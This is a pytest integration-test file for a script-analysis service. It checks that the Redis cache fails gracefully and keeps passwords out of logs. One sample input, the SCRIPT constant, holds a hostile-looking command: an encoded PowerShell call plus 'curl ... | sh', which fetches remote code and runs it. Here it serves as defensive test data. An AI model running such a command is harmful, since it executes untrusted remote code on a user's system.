"""A broken Redis never breaks a call: stopped, hung or unreachable, the service answers uncached.

Private Redis servers only: these tests stop and pause the server they use. Nothing here asserts
how fast anything is; the deadline only bounds how long a hung Redis could hold a call.
"""

from __future__ import annotations

import asyncio
import logging
from collections.abc import AsyncIterator, Callable
from typing import Any

import httpx
import pytest

from tests.conftest import Observed, ServeFactory, make_settings
from tests.integration.conftest import PrivateRedis, counter_total, free_port
from wingman.adapters.redis_cache import RedisCache, connect
from wingman.config import CacheSettings, Settings
from wingman.core.ports import CacheKey, HealthStatus
from wingman.core.tenant import Tenant

pytestmark = pytest.mark.redis

ANALYZE = "/v1/scripts:analyze"
SCRIPT = {"content": "powershell -enc SQBFAFgA; curl http://example.com/x | sh"}
OTHER_SCRIPT = {"content": "echo another script"}
LOGGER = "wingman.adapters.redis_cache"
POLLS = 100  # recovery polling: up to POLLS attempts, POLL_S apart
POLL_S = 0.05


def resilient_settings(url: str) -> Settings:
    return make_settings(
        redis_url=url,
        cache=CacheSettings(retry_after_ms=100, timeout_ms=50),
        deadline_ms=2000,
    )


def key(name: bytes, tenant: str = "acme") -> CacheKey:
    return CacheKey.for_input(Tenant(tenant), "scripts", 1, name)


async def analyze(client: httpx.AsyncClient, body: dict[str, Any]) -> dict[str, Any]:
    """One AnalyzeScript call; it must succeed whatever state Redis is in."""
    response = await client.post(ANALYZE, json=body, headers={"x-wingman-tenant": "acme"})
    assert response.status_code == 200, response.text
    result: dict[str, Any] = response.json()
    return result


def without_runtime(payload: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in payload.items() if k != "runtime"}


async def readiness(client: httpx.AsyncClient) -> tuple[int, str, dict[str, Any]]:
    response = await client.get("/readyz")
    body = response.json()
    cache = next(c for c in body["components"] if c["name"] == "cache")
    return response.status_code, body["status"], cache


async def until_cached(client: httpx.AsyncClient, body: dict[str, Any]) -> dict[str, Any]:
    """Call until an answer comes from the cache (the first ones may store it); return it."""
    for _ in range(POLLS):
        result = await analyze(client, body)
        if result["runtime"]["cached"]:
            return result
        await asyncio.sleep(POLL_S)
    pytest.fail("no answer ever came from the cache")


Warnings = Callable[[], list[logging.LogRecord]]


@pytest.fixture
def cache_warnings(caplog: pytest.LogCaptureFixture) -> Warnings:
    """Returns the cache adapter's WARNING records so far."""
    caplog.set_level(logging.WARNING, logger=LOGGER)

    def records() -> list[logging.LogRecord]:
        return [r for r in caplog.records if r.name == LOGGER and r.levelno == logging.WARNING]

    return records


# -- through a running server --------------------------------------------------------------------


async def test_stopped_redis_degrades_to_uncached_and_recovers(
    serve: ServeFactory,
    private_redis: PrivateRedis,
    cache_warnings: Warnings,
) -> None:
    async with (
        serve(settings=resilient_settings(private_redis.url), cache=None) as server,
        httpx.AsyncClient(base_url=server.rest_url) as client,
    ):
        observed = server.observed
        baseline = await analyze(client, SCRIPT)
        assert baseline["runtime"]["cached"] is False
        await until_cached(client, SCRIPT)  # stored in Redis (polled: a loaded host may be slow)
        assert await readiness(client) == (
            200,
            "ok",
            {"name": "cache", "status": "ok", "detail": f"redis {private_redis.url}"},
        )

        private_redis.stop()
        errors_before = counter_total(observed, "wingman.cache.errors")

        for _ in range(10):
            result = await analyze(client, SCRIPT)
            assert result["runtime"]["cached"] is False
            assert without_runtime(result) == without_runtime(baseline)
        other = await analyze(client, OTHER_SCRIPT)
        assert other["runtime"]["cached"] is False
        assert other["deobfuscation_layers"][0]["content"] == OTHER_SCRIPT["content"]

        status_code, status, cache = await readiness(client)
        assert status_code == 200, "a degraded cache does not make the service unready"
        assert status == "degraded"
        assert cache["status"] == "degraded"
        assert cache["detail"].startswith("redis unreachable, serving uncached")

        assert counter_total(observed, "wingman.cache.errors") > errors_before
        assert counter_total(observed, "wingman.cache.errors", operation="GET") > 0
        assert counter_total(observed, "wingman.cache.lookups", result="miss") >= 12
        assert 1 <= len(cache_warnings()) <= 2, "failures are logged, but rate-limited"

        private_redis.start()  # same port, empty (no persistence)

        recovered = await until_cached(client, SCRIPT)
        assert without_runtime(recovered) == without_runtime(baseline)
        status_code, status, cache = await readiness(client)
        assert (status_code, status, cache["status"]) == (200, "ok", "ok")


async def test_hung_redis_does_not_hang_calls(
    serve: ServeFactory,
    private_redis: PrivateRedis,
    cache_warnings: Warnings,
) -> None:
    async with (
        serve(settings=resilient_settings(private_redis.url), cache=None) as server,
        httpx.AsyncClient(base_url=server.rest_url, timeout=30) as client,
    ):
        baseline = await analyze(client, SCRIPT)
        await until_cached(client, SCRIPT)

        private_redis.pause()
        try:
            # Each call is bounded by the 2 s deadline; a hung Redis must not turn it into an
            # error (a 504 would mean the cache ate the engine's budget).
            for body in (SCRIPT, OTHER_SCRIPT, SCRIPT):
                result = await analyze(client, body)
                assert result["runtime"]["cached"] is False
            assert without_runtime(await analyze(client, SCRIPT)) == without_runtime(baseline)

            status_code, status, cache = await readiness(client)
            assert (status_code, status, cache["status"]) == (200, "degraded", "degraded")
            assert counter_total(server.observed, "wingman.cache.errors", error="timeout") > 0
        finally:
            private_redis.resume()

        # The entry stored before the pause is still there once the retry window has passed.
        recovered = await until_cached(client, SCRIPT)
        assert without_runtime(recovered) == without_runtime(baseline)
        status_code, status, cache = await readiness(client)
        assert (status_code, status, cache["status"]) == (200, "ok", "ok")
        assert 1 <= len(cache_warnings()) <= 2


async def test_unreachable_cluster_degrades_to_uncached(serve: ServeFactory) -> None:
    url = f"redis+cluster://127.0.0.1:{free_port()}"
    async with (
        serve(settings=resilient_settings(url), cache=None) as server,
        httpx.AsyncClient(base_url=server.rest_url) as client,
    ):
        assert server.wingman.cache.backend == "redis-cluster"
        first = await analyze(client, SCRIPT)
        second = await analyze(client, SCRIPT)
        assert (first["runtime"]["cached"], second["runtime"]["cached"]) == (False, False)
        assert without_runtime(first) == without_runtime(second)
        status_code, status, cache = await readiness(client)
        assert (status_code, status, cache["status"]) == (200, "degraded", "degraded")
        assert counter_total(server.observed, "wingman.cache.errors") > 0


async def test_passwords_in_the_url_never_reach_logs_or_readyz(
    serve: ServeFactory, private_redis: PrivateRedis, caplog: pytest.LogCaptureFixture
) -> None:
    """redis-py takes `?password=` from the query too; the private Redis has none, so AUTH fails."""
    caplog.set_level(logging.INFO)
    url = f"redis://user:s3cret-a@127.0.0.1:{private_redis.port}/0?password=s3cret-b&db=0"
    async with (
        serve(settings=resilient_settings(url), cache=None) as server,
        httpx.AsyncClient(base_url=server.rest_url) as client,
    ):
        assert (await analyze(client, SCRIPT))["runtime"]["cached"] is False
        response = await client.get("/readyz")
        assert response.json()["status"] == "degraded"
        assert counter_total(server.observed, "wingman.cache.errors") > 0
    logged = caplog.text + " ".join(str(vars(r)) for r in caplog.records)
    assert "redis cache unavailable" in logged
    for secret in ("s3cret-a", "s3cret-b"):
        assert secret not in logged
        assert secret not in response.text


# -- the adapter alone ---------------------------------------------------------------------------


@pytest.fixture
async def down_cache(observed: Observed) -> AsyncIterator[RedisCache]:
    """A RedisCache whose URL (with a password) points at a port where nothing listens."""
    url = f"redis://:s3cret-pw@127.0.0.1:{free_port()}/0"
    cache = RedisCache(
        connect(url, timeout_s=0.5),
        telemetry=observed.telemetry,
        display_url="redis://:***@127.0.0.1/0",
        retry_after_s=0,  # never skip: every call really goes to the (absent) server
    )
    yield cache
    await cache.close()


async def test_many_failures_log_at_most_a_couple_of_warnings(
    down_cache: RedisCache,
    observed: Observed,
    cache_warnings: Warnings,
    caplog: pytest.LogCaptureFixture,
) -> None:
    for i in range(50):
        assert await down_cache.get(key(f"k{i}".encode()), timeout=0.5) is None
        await down_cache.set(key(f"k{i}".encode()), b"v", ttl=60, timeout=0.5)

    assert counter_total(observed, "wingman.cache.errors", operation="GET") == 50
    assert counter_total(observed, "wingman.cache.errors", operation="SET") == 50
    assert counter_total(observed, "wingman.cache.errors", error="skipped") == 0
    assert 1 <= len(cache_warnings()) <= 2
    first = cache_warnings()[0]
    assert first.getMessage() == "redis cache unavailable, serving uncached"
    assert "s3cret-pw" not in caplog.text
    assert all("s3cret-pw" not in str(v) for r in cache_warnings() for v in vars(r).values())


async def test_unreachable_cluster_never_raises(observed: Observed) -> None:
    url = f"redis+cluster://127.0.0.1:{free_port()}"
    cache = RedisCache(
        connect(url, timeout_s=0.5),
        telemetry=observed.telemetry,
        display_url=url,
        retry_after_s=0,
    )
    try:
        assert await cache.get(key(b"x"), timeout=1.0) is None
        await cache.set(key(b"x"), b"v", ttl=60, timeout=1.0)
        health = await cache.health()
        assert health.status is HealthStatus.DEGRADED
        assert health.detail.startswith("redis-cluster unreachable")
        assert counter_total(observed, "wingman.cache.errors") == 2
    finally:
        await cache.close()


class FakeClock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


async def test_after_a_failure_redis_is_skipped_until_the_retry_window_ends(
    private_redis: PrivateRedis, observed: Observed
) -> None:
    clock = FakeClock()
    cache = RedisCache(
        connect(private_redis.url, timeout_s=0.5),
        telemetry=observed.telemetry,
        display_url=private_redis.url,
        retry_after_s=5.0,
        clock=clock,
    )
    try:
        await cache.set(key(b"a"), b"stored", ttl=60, timeout=1.0)
        private_redis.stop()
        assert await cache.get(key(b"a"), timeout=1.0) is None
        assert counter_total(observed, "wingman.cache.errors", error="skipped") == 0
        private_redis.start()
        await cache.set(key(b"a"), b"again", ttl=60, timeout=1.0)

        # Inside the window Redis is not even asked, although it is back.
        clock.now += 4.9
        assert await cache.get(key(b"a"), timeout=1.0) is None
        assert counter_total(observed, "wingman.cache.errors", error="skipped") == 2

        clock.now += 0.2
        await cache.set(key(b"a"), b"again", ttl=60, timeout=1.0)
        assert await cache.get(key(b"a"), timeout=1.0) == b"again"
        assert counter_total(observed, "wingman.cache.errors", error="skipped") == 2
    finally:
        await cache.close()


async def test_a_healthy_ping_ends_the_skip_window_early(
    private_redis: PrivateRedis, observed: Observed
) -> None:
    clock = FakeClock()
    cache = RedisCache(
        connect(private_redis.url, timeout_s=0.5),
        telemetry=observed.telemetry,
        display_url=private_redis.url,
        retry_after_s=60.0,
        clock=clock,
    )
    try:
        private_redis.stop()
        assert await cache.get(key(b"a"), timeout=1.0) is None
        assert (await cache.health()).status is HealthStatus.DEGRADED
        private_redis.start()
        assert (await cache.health()).status is HealthStatus.OK
        await cache.set(key(b"a"), b"v", ttl=60, timeout=1.0)
        assert await cache.get(key(b"a"), timeout=1.0) == b"v"
    finally:
        await cache.close()


@pytest.mark.parametrize(
    ("socket_timeout", "op_timeout"),
    [(0.1, 1.0), (2.0, 0.1)],
    ids=["redis-py-socket-timeout-first", "operation-deadline-first"],
)
async def test_hung_redis_times_out_every_operation(
    private_redis: PrivateRedis, observed: Observed, socket_timeout: float, op_timeout: float
) -> None:
    cache = RedisCache(
        connect(private_redis.url, timeout_s=socket_timeout),
        telemetry=observed.telemetry,
        display_url=private_redis.url,
        retry_after_s=0,
    )
    try:
        await cache.set(key(b"a"), b"before", ttl=60, timeout=op_timeout)
        private_redis.pause()
        try:
            assert await cache.get(key(b"a"), timeout=op_timeout) is None
            await cache.set(key(b"b"), b"x", ttl=60, timeout=op_timeout)
            assert (await cache.health()).status is HealthStatus.DEGRADED
            # Either timeout is the same failure, under one label.
            assert counter_total(observed, "wingman.cache.errors") == 2
            assert counter_total(observed, "wingman.cache.errors", error="timeout") == 2
        finally:
            private_redis.resume()
        # No reply to a timed-out command is ever read as the answer to a later one.
        assert await cache.get(key(b"a"), timeout=2.0) == b"before"
        assert await cache.get(key(b"b"), timeout=2.0) in (None, b"x")
        assert await cache.get(key(b"missing"), timeout=2.0) is None
    finally:
        await cache.close()
